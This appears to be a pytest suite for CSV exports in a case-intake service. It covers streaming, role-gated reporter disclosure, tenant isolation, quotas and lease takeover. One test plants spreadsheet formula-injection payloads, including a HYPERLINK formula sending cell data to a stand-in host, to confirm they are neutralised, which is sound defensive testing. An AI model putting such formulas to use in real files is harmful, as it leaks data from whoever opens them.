"""CSV exports on the real MongoDB: 10,000 cases streamed in bounded memory, progress while
running, reporters only for the roles that may see them (and logged), formula cells made
inert, tenant isolation, quotas, refusal of huge exports, lease takeover and expiry."""

from __future__ import annotations

import csv
import gc
import io
import threading
import time
import tracemalloc
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from bson import ObjectId
from flask import Flask
from flask.testing import FlaskClient

from services.intake.access.keys import create_key
from services.intake.access.models import AccessLogEntry
from services.intake.app import create_app
from services.intake.bootstrap import ensure_indexes
from services.intake.cases.models import Case
from services.intake.exports import csv_rows as export_csv
from services.intake.exports import jobs as export_jobs
from services.intake.exports.runner import ExportRunner, LeaseLost, vault_from
from shared import mongo
from shared.settings import Settings
from tests.support.builders import case_payload

_STATUSES = ("received", "verified", "under_examination", "awaiting_info", "closed")


@pytest.fixture
def app(settings: Settings) -> Flask:
    app = create_app(settings=settings.model_copy(update={"export_max_active_per_key": 2}))
    ensure_indexes()
    return app


@pytest.fixture
def client(app: Flask) -> FlaskClient:
    return app.test_client()


@pytest.fixture
def runner(app: Flask, settings: Settings) -> ExportRunner:
    return ExportRunner(mongo.database("intake"), vault=vault_from(settings), progress_every=1000)


def _auth(region: str = "12.06", role: str = "supervisor") -> dict[str, str]:
    token = create_key(name=f"{role} {region}", region=region, role=role)[0]
    return {"Authorization": f"Bearer {token}"}


def realistic_cases(count: int, tenant: str = "12.06") -> list[dict[str, Any]]:
    """Case documents shaped as intake stores them after triage and some handling."""
    start = datetime(2024, 9, 1, 1, 0, tzinfo=UTC)
    docs = []
    for i in range(count):
        submitted = start + timedelta(minutes=7 * i)
        status = _STATUSES[i % len(_STATUSES)]
        docs.append(
            {
                "_id": ObjectId(),
                "tenant": tenant,
                "tracking_code": f"PTU-{tenant.replace('.', '')}-{i:06d}",
                "source": "public_report" if i % 3 else "monitoring",
                "title": f"ASN Dinas Pendidikan membagikan unggahan paslon ({i})",
                "description": "Seorang staf membagikan unggahan tim pemenangan pasangan calon "
                "di Facebook dan menulis komentar dukungan. " * 4,
                "occurred_at": submitted - timedelta(days=2),
                "known_at": submitted - timedelta(days=1),
                "submitted_at": submitted,
                "updated_at": submitted + timedelta(hours=5),
                "location": {"text": "Kabanjahe", "district": "Kabanjahe", "village": None},
                "accused": [
                    {
                        "name": "Rudi Ginting",
                        "nip": "198609262015051001",
                        "employment_type": "PNS",
                        "agency": "Dinas Pendidikan Kabupaten Karo",
                        "position": "Staf",
                    }
                ],
                "evidence_urls": ["https://www.facebook.com/share/p/abc123/"],
                "witnesses": [],
                "reporter": {"anonymous": True, "confidential": True, "pseudonym": None},
                "late_filing": i % 11 == 0,
                "status": status,
                "submitted_by": {"key": "abcd1234", "name": "Diskominfo Karo"},
                "triage": {
                    "category": "netralitas_asn",
                    "priority": ("urgent", "high", "normal", "low")[i % 4],
                    "sanction_level": "sedang",
                    "unit": "Inspektorat",
                    "due_at": submitted + timedelta(days=7),
                    "assignee": {"officer_id": f"karo-insp-{i % 5:02d}", "name": "Petugas"},
                },
                "first_action_at": submitted + timedelta(hours=3),
                **({"closed_at": submitted + timedelta(days=3)} if status == "closed" else {}),
                "timeline": [
                    {"at": submitted, "kind": "submitted", "summary": "Kasus diterima"},
                    {"at": submitted, "kind": "triaged", "summary": "Diklasifikasikan"},
                ],
                "processed_events": [],
            }
        )
    return docs


def _export(client: FlaskClient, headers: dict[str, str], **body: Any) -> dict[str, Any]:
    answer = client.post("/v1/exports", json=body, headers=headers)
    assert answer.status_code == 202, answer.get_json()
    job: dict[str, Any] = answer.get_json()
    assert answer.headers["Location"] == job["links"]["self"] == f"/v1/exports/{job['id']}"
    assert job["status"] == "queued"
    return job


def _download(client: FlaskClient, headers: dict[str, str], job_id: str) -> list[list[str]]:
    answer = client.get(f"/v1/exports/{job_id}/download", headers=headers)
    assert answer.status_code == 200, answer.get_json()
    assert answer.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert answer.headers["Content-Disposition"].startswith("attachment; filename=")
    text = answer.get_data().decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def test_ten_thousand_cases_export_with_progress(client: FlaskClient, runner: ExportRunner) -> None:
    Case._get_collection().insert_many(realistic_cases(10_000))
    headers = _auth()
    job = _export(client, headers)
    assert job["total_estimated"] == 10_000
    assert job["links"]["download"] is None

    seen: list[tuple[str, int]] = []
    worker = threading.Thread(target=runner.run_once)
    started = time.perf_counter()
    worker.start()
    while worker.is_alive():
        status = client.get(job["links"]["self"], headers=headers).get_json()
        seen.append((status["status"], status["rows_written"]))
        time.sleep(0.01)
    worker.join()
    elapsed = time.perf_counter() - started

    final = client.get(job["links"]["self"], headers=headers).get_json()
    assert final["status"] == "done", final
    assert final["rows_written"] == 10_000
    assert final["percent"] == 100.0
    assert final["started_at"]
    assert final["finished_at"]
    assert final["links"]["download"] == f"/v1/exports/{job['id']}/download"
    # Progress was reported while it ran: intermediate counts between none and all.
    running = sorted({rows for state, rows in seen if state == "running" and 0 < rows < 10_000})
    assert len(running) >= 2, seen[-20:]

    rows = _download(client, headers, job["id"])
    assert rows[0] == list(export_csv.COLUMNS)
    assert len(rows) == 10_001
    assert {len(r) for r in rows} == {len(export_csv.COLUMNS)}
    assert len({r[0] for r in rows[1:]}) == 10_000
    print(f"\nexport of 10,000 cases: {elapsed:.2f} s")


def test_the_runner_streams_in_bounded_memory(client: FlaskClient, runner: ExportRunner) -> None:
    cases = Case._get_collection()
    cases.insert_many(realistic_cases(10_000))
    job = _export(client, _auth())

    # What holding the 10,000 rows would take: the projected documents as one list.
    gc.collect()
    tracemalloc.start()
    held = list(cases.find({"tenant": "12.06"}, export_csv.PROJECTION))
    _, holding_peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    del held

    gc.collect()
    tracemalloc.start()
    assert runner.run_once()
    _, streaming_peak = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    stored = export_jobs.jobs().find_one({"_id": ObjectId(job["id"])})
    assert stored is not None
    assert stored["status"] == "done"
    print(
        f"\npeak memory: streaming export {streaming_peak / 1e6:.1f} MB, "
        f"holding the rows {holding_peak / 1e6:.1f} MB"
    )
    assert streaming_peak < holding_peak / 4


def test_reporters_only_for_roles_that_may_reveal_and_logged(
    client: FlaskClient, runner: ExportRunner
) -> None:
    submitter = _auth(role="submitter")
    named = client.post(
        "/v1/cases",
        json=case_payload(
            reporter={"name": "Siti Rahmawati", "phone": "081260001234", "anonymous": False}
        ),
        headers=submitter,
    ).get_json()["id"]
    client.post("/v1/cases", json=case_payload(), headers=submitter)

    officer = _auth(role="officer")
    refused = client.post(
        "/v1/exports",
        json={"include_reporter": True, "reason": "verifikasi laporan ganda"},
        headers=officer,
    )
    assert refused.status_code == 403
    assert refused.mimetype == "application/problem+json"
    no_reason = client.post("/v1/exports", json={"include_reporter": True}, headers=_auth())
    assert no_reason.status_code == 422

    plain = _export(client, officer)
    supervisor = _auth()
    revealed = _export(client, supervisor, include_reporter=True, reason="verifikasi laporan ganda")
    assert runner.run_once()
    assert runner.run_once()

    plain_rows = _download(client, officer, plain["id"])
    assert plain_rows[0] == list(export_csv.COLUMNS)
    assert "Siti Rahmawati" not in {cell for row in plain_rows for cell in row}

    rows = _download(client, supervisor, revealed["id"])
    assert rows[0] == export_csv.header(True)
    by_id = {row[0]: row for row in rows[1:]}
    assert by_id[named][-3:] == ["Siti Rahmawati", "'+6281260001234", ""]
    assert [r[-3:] for i, r in by_id.items() if i != named] == [["", "", ""]]

    log = list(AccessLogEntry.objects(action="export_reporter").order_by("at"))
    assert {e.case_id for e in log} == {f"export:{revealed['id']}", named}
    assert all(e.actor_role == "supervisor" for e in log)
    assert all("verifikasi laporan ganda" in e.reason for e in log)
    # The job holding identities is shown to the key that asked for it only.
    other_supervisor = _auth()
    assert client.get(revealed["links"]["self"], headers=other_supervisor).status_code == 404


def test_formula_cells_are_neutralised(client: FlaskClient, runner: ExportRunner) -> None:
    submitter = _auth(role="submitter")
    client.post(
        "/v1/cases",
        json=case_payload(title='=HYPERLINK("http://jahat.example/?x="&A1,"klik")'),
        headers=submitter,
    )
    client.post("/v1/cases", json=case_payload(title="@SUM(1+1)*cmd"), headers=submitter)
    headers = _auth(role="officer")
    job = _export(client, headers)
    runner.run_once()
    titles = {
        row[export_csv.COLUMNS.index("title")] for row in _download(client, headers, job["id"])[1:]
    }
    assert titles == {'\'=HYPERLINK("http://jahat.example/?x="&A1,"klik")', "'@SUM(1+1)*cmd"}


def test_exports_are_seen_by_their_own_region_only(
    client: FlaskClient, runner: ExportRunner
) -> None:
    Case._get_collection().insert_many(realistic_cases(5, "12.06") + realistic_cases(3, "12.07"))
    karo = _auth()
    job = _export(client, karo, status="closed")
    runner.run_once()
    rows = _download(client, karo, job["id"])
    assert {row[2] for row in rows[1:]} == {"12.06"}
    for stranger in (_auth("12.07"), _auth("12", "operator"), _auth("13.01")):
        assert client.get(job["links"]["self"], headers=stranger).status_code == 404
        assert client.get(f"{job['links']['self']}/download", headers=stranger).status_code == 404
    assert client.get("/v1/exports/nope", headers=karo).status_code == 404
    # A regency key cannot select another regency's cases.
    other = client.post("/v1/exports", json={"region_code": "12.07"}, headers=karo)
    assert other.status_code == 422
    # A submitter has no export at all.
    assert client.post("/v1/exports", json={}, headers=_auth(role="submitter")).status_code == 403


def test_a_huge_export_is_refused_with_the_count(settings: Settings) -> None:
    app = create_app(settings=settings.model_copy(update={"export_max_rows": 5}))
    ensure_indexes()
    client = app.test_client()
    Case._get_collection().insert_many(realistic_cases(7))
    answer = client.post("/v1/exports", json={}, headers=_auth())
    assert answer.status_code == 422
    body = answer.get_json()
    assert "7 cases" in body["detail"]
    assert "Narrow" in body["detail"]
    assert body["errors"][0]["code"] == "export_too_large"
    assert (body["matching"], body["max_rows"]) == (7, 5)
    assert client.post("/v1/exports", json={"status": "closed"}, headers=_auth()).status_code == 202


def test_queued_exports_per_key_are_limited(client: FlaskClient) -> None:
    headers = _auth()
    _export(client, headers)
    _export(client, headers)
    third = client.post("/v1/exports", json={}, headers=headers)
    assert third.status_code == 429
    assert third.headers["Retry-After"]
    assert third.get_json()["max_active"] == 2
    assert export_jobs.jobs().count_documents({}) == 2
    # Another key has its own quota.
    _export(client, _auth())


def test_the_worker_loop_runs_queued_exports_until_stopped(
    client: FlaskClient, settings: Settings
) -> None:
    Case._get_collection().insert_many(realistic_cases(50))
    headers = _auth()
    job = _export(client, headers)
    loop = ExportRunner(mongo.database("intake"), vault=vault_from(settings), interval=0.05)
    stop = threading.Event()
    thread = threading.Thread(target=loop.run, args=(stop,))
    thread.start()
    try:
        deadline = time.monotonic() + 10
        status = job
        while status["status"] != "done" and time.monotonic() < deadline:
            time.sleep(0.05)
            status = client.get(job["links"]["self"], headers=headers).get_json()
    finally:
        stop.set()
        thread.join(10)
    assert not thread.is_alive()
    assert (status["status"], status["rows_written"]) == ("done", 50)


def test_download_before_done_is_a_conflict(client: FlaskClient) -> None:
    headers = _auth()
    job = _export(client, headers)
    answer = client.get(f"/v1/exports/{job['id']}/download", headers=headers)
    assert answer.status_code == 409
    assert answer.get_json()["export_status"] == "queued"


def test_a_job_of_a_dead_worker_is_taken_over(
    client: FlaskClient, settings: Settings, app: Flask
) -> None:
    Case._get_collection().insert_many(realistic_cases(1200))
    headers = _auth()
    job = _export(client, headers)
    db = mongo.database("intake")
    dead = ExportRunner(db, vault=None, batch=100, progress_every=100, owner="dead")
    claimed = dead.claim()
    assert claimed is not None
    # Another replica does not take a job whose lease is alive...
    alive = ExportRunner(db, vault=None, batch=100, progress_every=100, owner="alive")
    assert alive.claim() is None
    # ...but does once it has run out.
    export_jobs.jobs().update_one(
        {"_id": claimed["_id"]}, {"$set": {"lease_until": datetime.now(UTC) - timedelta(seconds=1)}}
    )
    assert alive.run_once()
    # The stalled worker finds out at its next progress update and writes nothing more.
    with pytest.raises(LeaseLost):
        dead._progress(claimed, 100)
    status = client.get(job["links"]["self"], headers=headers).get_json()
    assert (status["status"], status["rows_written"]) == ("done", 1200)
    stored = export_jobs.jobs().find_one({"_id": claimed["_id"]})
    assert stored is not None
    assert stored["attempts"] == 2
    assert len(_download(client, headers, job["id"])) == 1201


def test_expired_jobs_and_their_files_are_deleted(
    client: FlaskClient, runner: ExportRunner
) -> None:
    Case._get_collection().insert_many(realistic_cases(3))
    headers = _auth()
    job = _export(client, headers)
    runner.run_once()
    db = mongo.database("intake")
    assert db["exports.files"].count_documents({}) == 1
    past = datetime.now(UTC) - timedelta(minutes=1)
    export_jobs.jobs().update_one({"_id": ObjectId(job["id"])}, {"$set": {"expires_at": past}})
    # Expired for its users at once, before any sweep.
    assert client.get(job["links"]["self"], headers=headers).status_code == 404
    assert runner.sweep() == 1
    assert export_jobs.jobs().count_documents({}) == 0
    assert db["exports.files"].count_documents({}) == 0
    assert db["exports.chunks"].count_documents({}) == 0
    ttl = export_jobs.jobs().index_information()["job_expiry"]
    assert ttl["expireAfterSeconds"] == 0
